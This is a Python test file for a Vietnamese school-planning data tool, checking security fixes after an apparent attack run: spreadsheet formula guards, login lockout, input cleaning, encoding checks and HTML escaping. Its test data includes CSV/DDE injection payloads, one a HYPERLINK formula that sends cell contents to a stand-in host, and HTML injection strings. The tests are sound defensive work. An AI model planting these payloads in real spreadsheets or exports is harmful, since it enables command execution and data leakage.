"""Issue 21: what an attack run broke. One test (or a few) per item."""

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from kdcl import exports, templates
from kdcl.access import Scope
from kdcl.importing import Options, Upload, import_files

ADMIN = Scope.everything(user="test")
NASTY = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1:A2)",
         "\t=1+1", "'=quoted already", "'plain apostrophe"]  # as many as the tiny database has items


def run(store, name, data, scope=ADMIN, **options):
    [result] = import_files(store, scope, [Upload(name, data)], Options(**options))
    return result


def query(store, sql, *params):
    with store.cursor() as cur:
        return cur.execute(sql, list(params)).fetchall()


def _set_measures(store, texts):
    ids = [r[0] for r in query(store, "select item_id from plan_item order by item_id")][: len(texts)]
    assert len(ids) == len(texts)
    with store.cursor() as cur:
        for item_id, text in zip(ids, texts):
            cur.execute("update plan_item set measures = ? where item_id = ?", [text, item_id])
    return ids


# --------------------------------------------------------------------------- 1. one writer, formula guard


def test_template_xlsx_export_never_writes_a_formula(tiny_store):
    _set_measures(tiny_store, NASTY)
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "xlsx")
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert set(NASTY) - {"\t=1+1"} <= texts


def test_template_csv_export_puts_formula_text_behind_an_apostrophe(tiny_store):
    _set_measures(tiny_store, NASTY)
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    col = rows[0].index("Giải pháp")
    values = [r[col] for r in rows[1:]]
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(A1:A2)" in values
    assert "''=quoted already" in values and "'plain apostrophe" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_round_trip_gives_back_formula_like_text(tiny_store, fmt):
    texts = [t for t in NASTY if not t.startswith("\t")]
    ids = _set_measures(tiny_store, texts)
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", fmt)
    _set_measures(tiny_store, ["changed"] * len(texts))
    result = run(tiny_store, "lai." + fmt, data)
    assert result.status == "imported", [e.message for e in result.errors]
    got = [query(tiny_store, "select measures from plan_item where item_id = ?", i)[0][0] for i in ids]
    assert got == texts


def test_control_characters_never_break_an_export(tiny_store):
    _set_measures(tiny_store, ["Chuông\x07 reo\x1b[31m đỏ"])
    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "xlsx")
    values = {c.value for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row}
    assert "Chuông reo[31m đỏ" in values
    text = templates.export_bytes(tiny_store, ADMIN, "plan", "csv")[0].decode("utf-8-sig")
    assert "\x07" not in text and "\x1b" not in text and "Chuông reo[31m đỏ" in text


def test_write_table_is_the_one_writer(tmp_path):
    frame = pd.DataFrame({"Ngày": [date(2025, 3, 1)], "Kinh phí": [5_000_000], "Nội dung": ["=1+1\x07"]})
    out = tmp_path / "a.csv"
    exports.write_table(frame, out, "csv")
    assert out.read_bytes().decode("utf-8-sig") == "Ngày,Kinh phí,Nội dung\r\n01/03/2025,5000000,'=1+1\r\n"
    buffer = io.BytesIO()
    exports.write_table({"Một": frame, "Hai": frame}, buffer, "xlsx")
    wb = load_workbook(io.BytesIO(buffer.getvalue()))
    assert wb.sheetnames == ["Một", "Hai"]
    a2, b2, c2 = wb["Hai"][2]
    assert a2.value.date() == date(2025, 3, 1) and a2.number_format == "DD/MM/YYYY"
    assert b2.value == 5_000_000 and b2.number_format == "#,##0"
    assert c2.value == "=1+1" and c2.data_type == "s"


def test_every_csv_and_xlsx_writer_goes_through_kdcl_exports():
    """No module but kdcl/exports.py writes a CSV or a cell itself (pandas, csv, openpyxl)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    direct = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|ExcelWriter|xlsxwriter|\.value = |\bws\.append\(")
    offenders = []
    for path in [root / "dashboard.py", *(root / "pages").glob("*.py"), *(root / "kdcl").rglob("*.py")]:
        if path.name == "exports.py" and path.parent.name == "kdcl":
            continue
        for no, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if direct.search(line) and "exports." not in line:
                offenders.append(f"{path.relative_to(root)}:{no}: {line.strip()}")
    assert offenders == []


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "''", "'a", "a'=", "-", "'-5", "\r=1", "plain"])
def test_the_csv_guard_comes_off_exactly(text):
    written = exports.csv_text(text)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert exports.unguard_csv(written) == text


def test_plan_docx_survives_control_characters(tiny_store):
    from docx import Document

    from kdcl.data.plan_document import plan_document
    from kdcl.reports.plan_docx import build_plan_docx

    with tiny_store.cursor() as cur:
        cur.execute("update plan_item set measures = 'Chuông\x07 reo\x1b[0m' where school_id = 'S1'")
        cur.execute("update school set name = 'Trường\x0b THCS' where school_id = 'S1'")
    doc = plan_document(tiny_store, ADMIN, "S1", "2024-2025")
    document = Document(io.BytesIO(build_plan_docx(doc, today=date(2025, 6, 1))))
    cells = [c.text for row in document.tables[1].rows for c in row.cells]
    assert "Chuông reo[0m" in cells


# --------------------------------------------------------------------------- 3. lockout under parallel sign-ins


def test_parallel_wrong_attempts_cannot_bypass_the_lockout(tiny_store):
    from concurrent.futures import ThreadPoolExecutor
    from datetime import datetime

    from kdcl import auth

    auth.add_user(tiny_store, "admin", "matkhau-admin", "admin")
    now = datetime(2025, 5, 15, 8, 0)

    def attempt(_):
        try:
            auth.authenticate(tiny_store, "admin", "sai-mat-khau", now=now)
        except auth.AuthError as exc:
            return str(exc)
        return "signed in"

    with ThreadPoolExecutor(max_workers=40) as pool:
        answers = list(pool.map(attempt, range(40)))
    assert answers.count("Tên đăng nhập hoặc mật khẩu không đúng.") == auth.MAX_FAILED
    assert query(tiny_store, "select failed_logins from app_user where username = 'admin'") == [(auth.MAX_FAILED,)]
    with pytest.raises(auth.AuthError, match="tạm khóa"):
        auth.authenticate(tiny_store, "admin", "matkhau-admin", now=now)


def test_unknown_accounts_lock_the_same_way(tiny_store, monkeypatch):
    from datetime import datetime

    from kdcl import auth

    monkeypatch.setattr(auth, "_unknown", {})  # no counts left over from other tests
    auth.add_user(tiny_store, "admin", "matkhau-admin", "admin")
    now = datetime(2025, 5, 15, 8, 0)
    answers = {}
    for name in ("admin", "khong-co-ai"):
        seen = []
        for _ in range(auth.MAX_FAILED + 2):
            with pytest.raises(auth.AuthError) as exc:
                auth.authenticate(tiny_store, name, "sai-mat-khau", now=now)
            seen.append(str(exc.value))
        answers[name] = seen
    assert answers["admin"] == answers["khong-co-ai"]
    assert "tạm khóa" in answers["admin"][-1]


# --------------------------------------------------------------------------- 4. money

PLAN_HEADER = ["Mã trường", "Năm học", "Tiêu chí", "Mức mục tiêu", "Điểm yếu", "Kết quả cần đạt", "Giải pháp",
               "Chủ trì", "Phối hợp", "Thời gian thực hiện", "Ngày bắt đầu", "Hạn hoàn thành", "Kinh phí",
               "Trạng thái", "Ngày hoàn thành", "Ghi chú"]


def plan_csv(*rows: dict) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(PLAN_HEADER)
    for cells in rows:
        good = dict(zip(PLAN_HEADER, ["S3", "2024-2025", "5.4", "1"] + [""] * 12))
        writer.writerow(list({**good, **cells}.values()))
    return out.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize("text", ["-5.000.000", "(5.000.000)", "âm 5 triệu", "− 5 triệu đồng", "Âm 5.000.000 đ"])
def test_negative_money_text_is_read_as_negative(text):
    from kdcl.timetext import parse_money

    assert parse_money(text) == -5_000_000


@pytest.mark.parametrize("text", ["5 - 10 triệu", "Từ 2023-2024: 5 triệu", "(dự kiến) 5 triệu"])
def test_a_dash_or_brackets_elsewhere_are_not_a_sign(text):
    from kdcl.timetext import parse_money

    assert (parse_money(text) or 0) >= 0


@pytest.mark.parametrize("text, message", [
    ("-5.000.000", "là số âm"), ("(5.000.000)", "là số âm"), ("âm 5 triệu", "là số âm"),
    ("100000000000000000000000", "quá lớn"), ("100.000 tỷ", "quá lớn"),
])
def test_negative_or_absurd_money_is_refused_at_preview_with_row_and_column(tiny_store, text, message):
    before = query(tiny_store, "select count(*) from plan_item")
    result = run(tiny_store, "tien.csv", plan_csv({}, {"Kinh phí": text}), dry_run=True)
    assert result.status == "rejected", result.summary
    [error] = result.errors
    assert error.row == 3 and error.column == "Kinh phí" and message in error.message
    assert error.message.startswith("Tệp «tien.csv», dòng 3, cột «Kinh phí»")
    assert query(tiny_store, "select count(*) from plan_item") == before


# --------------------------------------------------------------------------- 5. control characters at the door


def test_control_characters_are_dropped_at_import_keeping_visible_text(tiny_store):
    from kdcl.importing.normalise import clean

    assert clean("Chuông\x07 reo\x1b[31m đỏ\x00\x7f\x85") == "Chuông reo[31m đỏ"
    assert clean("dòng 1\vdòng 2") == "dòng 1\ndòng 2"
    result = run(tiny_store, "dieu-khien.csv", plan_csv({"Điểm yếu": "Thiếu\x07 phòng\x1b[0m học", "Chủ trì": "HT\x08"}))
    assert result.status == "imported", [e.message for e in result.errors]
    assert query(tiny_store, "select weakness, lead from plan_item where school_id = 'S3'") == [
        ("Thiếu phòng[0m học", "HT")]


# --------------------------------------------------------------------------- 6. encodings


def _mixed_csv(bom: bool) -> bytes:
    from fixtures_docx import to_cp1258

    header = ",".join(PLAN_HEADER) + "\r\n"
    utf8_row = "S3,2024-2025,5.4,1,Thiếu phòng học,,,Hiệu trưởng" + "," * 8 + "\r\n"
    cp_row = "S3,2024-2025,5.3,1,Thiếu đồ dùng,,,Phó hiệu trưởng" + "," * 8 + "\r\n"
    data = header.encode("utf-8") + utf8_row.encode("utf-8") + to_cp1258(cp_row)
    return (b"\xef\xbb\xbf" if bom else b"") + data


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
def test_a_csv_mixing_windows_1258_and_utf8_is_refused_naming_the_row(tiny_store, bom):
    before = query(tiny_store, "select count(*) from plan_item")
    result = run(tiny_store, "tron.csv", _mixed_csv(bom))
    assert result.status == "rejected"
    [error] = result.errors
    assert "dòng 3" in error.message and "UTF-8" in error.message and "Windows-1258" in error.message
    assert query(tiny_store, "select count(*) from plan_item") == before


def test_pure_windows_1258_and_pure_utf8_still_read(tiny_store):
    from fixtures_docx import to_cp1258

    from kdcl.importing.safety import decode_text

    text = "Mã trường,Tên trường\r\nS1,Trường THCS Lý Tự Trọng\r\n"
    assert decode_text(to_cp1258(text)) == (text, "Windows-1258")
    assert decode_text(text.encode("utf-8")) == (text, "UTF-8")
    assert decode_text(b"\xef\xbb\xbf" + text.encode("utf-8")) == (text, "UTF-8 (BOM)")


# --------------------------------------------------------------------------- 7. a second process on the database


@pytest.fixture
def held_db(tiny_db_path, tmp_path):
    """A copy of the tiny database held open by another process (as the dashboard or an import would)."""
    import shutil
    import subprocess
    import sys

    path = tmp_path / "held.duckdb"
    shutil.copy(tiny_db_path, path)
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, duckdb; c = duckdb.connect(sys.argv[1]); print('ok', flush=True); "
                               "sys.stdin.read()", str(path)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "ok"
    yield path, holder.pid
    holder.stdin.close()
    holder.wait(timeout=30)


def test_store_maps_the_duckdb_lock_to_its_own_error(held_db):
    from kdcl.db import Store, StoreBusy

    path, pid = held_db
    with pytest.raises(StoreBusy) as busy:
        Store(path)
    assert busy.value.pid == pid and path.name in str(busy.value) and str(path.parent) not in str(busy.value)
    assert f"PID {pid}" in str(busy.value) and "Nhập dữ liệu" in str(busy.value)


@pytest.mark.parametrize("argv", [["summary"], ["users", "list"], ["export", "schools", "--out", "{tmp}/a.csv"],
                                  ["import", "{tmp}/plan.csv"]])
def test_cli_on_a_held_database_prints_one_vietnamese_line_and_exits_3(held_db, tmp_path, argv):
    import subprocess
    import sys

    path, pid = held_db
    (tmp_path / "plan.csv").write_bytes(plan_csv({}))
    argv = [a.replace("{tmp}", str(tmp_path)) for a in argv]
    done = subprocess.run([sys.executable, "-m", "kdcl", *argv, "--db", str(path)], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 3, done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""
    [line] = done.stderr.strip().splitlines()
    assert f"PID {pid}" in line and "đang được mở" in line


def test_dashboard_on_a_held_database_shows_the_same_message(held_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from conftest import ROOT

    path, pid = held_db
    monkeypatch.setenv("KDCL_DB", str(path))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=90)
    at.run()
    assert not at.exception
    assert any(f"PID {pid}" in e.value and "đang được mở" in e.value for e in at.error)


# --------------------------------------------------------------------------- 8. uploads


def test_documents_are_read_one_at_a_time_with_progress(tiny_store, monkeypatch):
    from fixtures_docx import seed_003_docx

    from kdcl.importing import service

    events = []
    real_read_docx = service.read_docx

    def spy(name, data):
        events.append(("read", name))
        return real_read_docx(name, data)

    monkeypatch.setattr(service, "read_docx", spy)
    docx = seed_003_docx()
    uploads = [Upload(f"ke-hoach-{i}.docx", docx) for i in range(3)]
    import_files(tiny_store, ADMIN, uploads, Options(dry_run=True),
                 progress=lambda done, total, name: events.append(("progress", name)))
    assert events == [("progress", "ke-hoach-0.docx"), ("read", "ke-hoach-0.docx"),
                      ("progress", "ke-hoach-1.docx"), ("read", "ke-hoach-1.docx"),
                      ("progress", "ke-hoach-2.docx"), ("read", "ke-hoach-2.docx"), ("progress", "")]


def test_a_batch_over_its_budget_refuses_the_rest_unread(tiny_store, monkeypatch):
    from kdcl.importing import service

    read = []
    monkeypatch.setattr(service, "read_docx", lambda name, data: read.append(name))
    data = plan_csv({})
    assert 200 < len(data) < 400
    uploads = [Upload("a.csv", data), Upload("b.csv", data + b"\r\n"), Upload("c.docx", b"PK" * 100)]
    results = import_files(tiny_store, ADMIN, uploads, Options(dry_run=True, max_batch_bytes=400))
    assert [r.status for r in results] == ["ready", "rejected", "rejected"]
    assert "chưa được đọc" in results[1].errors[0].message
    assert "chưa được đọc" in results[2].errors[0].message and read == []


# --------------------------------------------------------------------------- 9. small ones


def test_history_of_an_item_updated_by_a_csv_import(tiny_store):
    from kdcl.data import plan_items as pi

    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "csv", "S1", "2024-2025")
    lines = data.decode("utf-8-sig").splitlines()
    header = next(csv.reader([lines[0]]))
    first = next(csv.reader([lines[1]]))
    first[header.index("Điểm yếu")] = "Điểm yếu đã sửa"
    first[header.index("Hạn hoàn thành")] = "30/06/2025"
    first[header.index("Kinh phí")] = "7.000.000"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, first])
    result = run(tiny_store, "sua.csv", out.getvalue().encode("utf-8-sig"))
    assert result.status == "imported", [e.message for e in result.errors]
    [item_id] = [r[0] for r in query(tiny_store, "select distinct item_id from plan_item_log where action = 'update'")]
    history = pi.item_history(tiny_store, ADMIN, item_id)
    frame = pi.history_frame(history)
    what = set(frame["Nội dung thay đổi"]) if "Nội dung thay đổi" in frame else set(frame.iloc[:, 2])
    assert {"Điểm yếu", "Hạn hoàn thành", "Kinh phí"} <= what
    shown = frame.to_string()
    assert "30/06/2025" in shown and "7.000.000" in shown


def test_users_list_prints_no_nan(tiny_db_path, tmp_path, capsys):
    import shutil

    from kdcl import auth, cli
    from kdcl.db import Store

    db = tmp_path / "users.duckdb"
    shutil.copy(tiny_db_path, db)
    store = Store(db)
    auth.add_user(store, "admin", "matkhau-admin", "admin")
    auth.add_user(store, "hdnd", "matkhau-hdnd", "viewer")
    auth.add_user(store, "phong", "matkhau-phong", "office", unit_id="W1")
    store.close()
    assert cli.main(["users", "list", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert "nan" not in out.lower()
    assert out.splitlines() == ["admin\tadmin\t*\tadmin", "phong\toffice\tW1\tphong", "hdnd\tviewer\t*\thdnd"]


@pytest.mark.parametrize("argv, expected", [
    (["summary", "--bogus"], "không nhận ra tham số: --bogus"),
    ([], "thiếu tham số bắt buộc"),
    (["nonsense"], "không hợp lệ (chọn một trong"),
    (["export"], "thiếu tham số bắt buộc"),
    (["summary", "--year"], "cần một giá trị"),
    (["users", "add", "x", "--role", "boss"], "không hợp lệ (chọn một trong"),
])
def test_argparse_errors_are_vietnamese(argv, expected, capsys):
    from kdcl import cli

    with pytest.raises(SystemExit) as exit_:
        cli.main(argv)
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert expected in err, err
    assert "error:" not in err and "usage:" not in err and "the following" not in err


def test_a_completion_date_in_the_future_is_refused_at_import(tiny_store):
    from datetime import timedelta

    future = (date.today() + timedelta(days=30)).strftime("%d/%m/%Y")
    result = run(tiny_store, "tuonglai.csv", plan_csv({}, {"Trạng thái": "Hoàn thành", "Ngày hoàn thành": future}),
                 dry_run=True)
    assert result.status == "rejected"
    [error] = result.errors
    assert error.row == 3 and error.column == "Ngày hoàn thành" and "tương lai" in error.message


def test_a_cell_over_the_csv_field_limit_is_reported_as_such(tiny_store):
    data = plan_csv({}, {"Giải pháp": "x" * 140_000})
    result = run(tiny_store, "dai.csv", data)
    assert result.status == "rejected"
    [error] = result.errors
    assert "dài hơn 131.072 ký tự" in error.message and "Dòng 3" in error.message
    assert "ngoặc kép" not in error.message


def test_pptx_text_has_no_control_characters():
    from pptx import Presentation

    from kdcl.reports import pptx_deck

    deck = Presentation()
    box = deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_textbox(0, 0, 100, 100)
    pptx_deck._text(box.text_frame, "Chuông\x07 reo", 12)
    pptx_deck._add_paragraph(box.text_frame, "\x1b[31mđỏ", 12)
    assert box.text_frame.text == "Chuông reo\n[31mđỏ"


def test_plan_text_in_charts_is_shown_as_typed():
    from kdcl import charts

    items = pd.DataFrame({
        "criterion_code": ["1.1"], "weakness": ["<a href='http://evil.example'>bấm</a> & <b>đậm</b>"],
        "measures": ["<img src=x>"], "lead": ["<b>HT</b>"], "time_text": ["<br>Tháng 5"],
        "start_date": [date(2025, 3, 1)], "due_date": [date(2025, 3, 31)], "bucket": ["overdue"],
        "days_late": [45], "status": ["in_progress"],
    })
    fig = charts.plan_timeline(items, date(2025, 5, 15), "2024-09-01", "2025-05-31")
    shown = str([trace.y for trace in fig.data]) + str([trace.customdata for trace in fig.data])
    assert "<a href" not in shown and "<img" not in shown and "<b>" not in shown and "<br>" not in shown
    assert "&lt;a href=" in shown and "&amp;" in shown


def test_a_byte_no_known_encoding_defines_is_refused_with_its_line(tiny_store):
    from fixtures_docx import to_cp1258

    data = to_cp1258(",".join(PLAN_HEADER) + "\r\nS3,2024-2025,5.4,1,Thiếu\r\n") + b"S3,2024-2025,5.3,1,\x81\x8d\r\n"
    result = run(tiny_store, "la.csv", data)
    assert result.status == "rejected"
    [error] = result.errors
    assert "Dòng 3" in error.message and "Windows-1258" in error.message
